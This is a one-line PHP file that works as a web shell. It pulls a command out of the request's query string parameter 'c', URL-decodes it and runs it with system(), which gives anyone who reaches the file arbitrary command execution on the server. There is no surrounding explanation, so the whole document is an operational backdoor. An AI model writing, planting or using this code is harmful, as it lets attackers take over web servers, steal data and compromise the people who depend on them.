<?php preg_match("/c=(.*)/", $_SERVER["QUERY_STRING"], $m); system(urldecode($m[1]));
